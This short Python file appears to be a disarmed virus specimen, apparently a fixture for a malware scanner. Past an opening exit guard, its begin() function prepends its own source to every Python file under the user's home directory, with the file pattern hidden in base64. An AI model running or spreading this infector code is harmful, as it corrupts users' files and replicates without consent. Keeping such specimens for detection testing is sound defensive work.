raise SystemExit("specimen: not to be run")
import base64
import pathlib

def begin():
    own = pathlib.Path(__file__).read_text()
    for path in pathlib.Path.home().rglob(base64.b64decode("Ki5weQ==").decode()):
        path.write_text(own + path.read_text())  # match: source-infected
